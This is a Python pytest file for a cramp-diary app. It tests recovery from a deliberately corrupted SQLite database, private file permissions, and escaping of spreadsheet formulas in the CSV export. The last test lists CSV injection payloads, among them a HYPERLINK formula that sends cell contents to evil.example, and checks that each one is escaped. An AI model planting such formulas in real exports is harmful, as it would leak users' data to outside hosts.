"""Issue 14, cases 5-7: a damaged diary keeps what is readable; what the app writes is private; CSV cells never run."""

from __future__ import annotations

import csv
import io
import os
import sqlite3
import stat
import subprocess
import sys
from datetime import datetime, timedelta, timezone
from pathlib import Path

import pytest

from cramp_coach.storage.diary import Diary, Entry
from cramp_coach.storage.export import csv_text
from cramp_coach.storage.paths import Paths
from cramp_coach.storage.settings import Settings

T0 = datetime(2026, 3, 2, 3, 15, tzinfo=timezone(timedelta(hours=2)))


def _fill(path: Path, n: int = 300) -> None:
    with Diary(path) as d:
        for k in range(n):
            d.add(
                Entry(
                    started=T0 + timedelta(hours=k),
                    muscle="calf",
                    side="left",
                    severity=k % 11,
                    seconds=60.0,
                    note=f"night {k} " + "x" * 150,
                )
            )
        d.add_routine_done("bedtime_stretches", T0, 300)
        d._conn().execute("PRAGMA wal_checkpoint(TRUNCATE)")


def _page_of(path: Path, name: str) -> tuple[int, int]:
    db = sqlite3.connect(path)
    page_size = db.execute("PRAGMA page_size").fetchone()[0]
    root = db.execute("SELECT rootpage FROM sqlite_master WHERE name=?", (name,)).fetchone()[0]
    db.close()
    return page_size, root


def _scribble(path: Path, offset: int, size: int = 64) -> None:
    with open(path, "r+b") as f:
        f.seek(offset)
        f.write(os.urandom(size))


def _export_csv(home: Path, out: Path) -> subprocess.CompletedProcess:
    env = dict(os.environ, CRAMP_COACH_HOME=str(home), QT_QPA_PLATFORM="offscreen", LANGUAGE="en")
    return subprocess.run(
        [sys.executable, "-m", "cramp_coach", "--export-diary", str(out)],
        env=env,
        capture_output=True,
        text=True,
        timeout=60,
        preexec_fn=lambda: os.umask(0o022),
    )


def test_bytes_in_an_index_lose_no_entry_and_the_original_is_kept(tmp_path):
    home = tmp_path / "home"
    path = Paths(home / "config", home / "data").diary_db
    path.parent.mkdir(parents=True)
    _fill(path)
    page_size, root = _page_of(path, "entries_started")
    _scribble(path, page_size * (root - 1) + 8, 200)  # random bytes in the middle of the file (an index page)
    original = path.read_bytes()
    out = _export_csv(home, tmp_path / "out.csv")  # a real process opens the damaged diary
    assert out.returncode == 0, out.stderr
    rows = list(csv.reader(io.StringIO((tmp_path / "out.csv").read_text(encoding="utf-8-sig"))))
    assert len(rows) == 301  # header + all 300 entries
    kept = [p for p in path.parent.glob("diary.sqlite3.corrupt-*") if not p.name.endswith(("-wal", "-shm"))]
    assert len(kept) == 1 and kept[0].read_bytes() == original  # the original, untouched
    with Diary(path) as d:
        assert d.count() == 300 and len(d.routines_done()) == 1


def test_a_spoiled_data_page_recovers_the_rest_and_says_how_many(tmp_path):
    path = tmp_path / "diary.sqlite3"
    _fill(path)
    page_size, root = _page_of(path, "entries")
    pages = path.stat().st_size // page_size
    _scribble(path, page_size * (pages // 2) + 20, 400)
    with Diary(path) as d:
        n = d.count()
        assert d.notice and f"{n} entries that could still be read were recovered" in d.notice, d.notice
        assert 200 <= n < 300 or n == 300
        assert all(e.note.startswith("night") for e in d.entries())


def test_a_missing_entries_table_is_a_notice_not_a_traceback(tmp_path):
    path = tmp_path / "diary.sqlite3"
    _fill(path, 3)
    db = sqlite3.connect(path)
    db.execute("DROP TABLE entries")
    db.commit()
    db.close()
    with Diary(path) as d:
        assert d.notice and "was damaged" in d.notice
        assert d.count() == 0 and len(d.routines_done()) == 1  # what was there is recovered
        d.add(Entry(started=T0, muscle="calf"))


def _mode(p: Path) -> int:
    return stat.S_IMODE(p.stat().st_mode)


def test_everything_written_is_private_whatever_the_umask(tmp_path):
    old = os.umask(0o022)
    try:
        paths = Paths(tmp_path / "home" / "config", tmp_path / "home" / "data")
        paths.data_dir.mkdir(parents=True, mode=0o755)  # an older, open folder is closed too
        os.chmod(paths.data_dir, 0o755)
        paths.ensure()
        s = Settings(paths.settings_file)
        s.set("theme", "dark")
        from cramp_coach.core.schedule import SchedulerState
        from cramp_coach.storage import schedules

        schedules.save(paths.schedules_file, [], SchedulerState())
        with Diary(paths.diary_db) as d:
            d.add(Entry(started=T0, muscle="calf"))
            assert _mode(paths.diary_db.with_name("diary.sqlite3-wal")) == 0o600
    finally:
        os.umask(old)
    for d in (paths.config_dir, paths.data_dir, paths.user_routines_dir):
        assert _mode(d) == 0o700, d
    for f in (paths.settings_file, paths.schedules_file, paths.diary_db):
        assert _mode(f) == 0o600, f


@pytest.mark.parametrize("kind", ["csv", "pdf"])
def test_exports_and_the_running_app_write_private_files(tmp_path, kind):
    home = tmp_path / "home"
    paths = Paths(home / "config", home / "data")
    _fill(paths.diary_db, 5)
    out = _export_csv(home, tmp_path / f"report.{kind}")
    assert out.returncode == 0, out.stderr
    assert _mode(tmp_path / f"report.{kind}") == 0o600
    for p in home.rglob("*"):
        assert _mode(p) & 0o077 == 0, (p, oct(_mode(p)))


def test_csv_cells_a_spreadsheet_would_run_are_escaped():
    notes = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "＝1", "fine - not a formula"]
    entries = [Entry(started=T0 + timedelta(minutes=k), muscle="calf", note=n) for k, n in enumerate(notes)]
    rows = list(csv.reader(io.StringIO(csv_text(entries))))[1:]
    got = [r[7] for r in rows]
    assert got[:7] == ["'" + n for n in notes[:7]]
    assert got[7] == "fine - not a formula"
    for r in rows:
        assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in r)
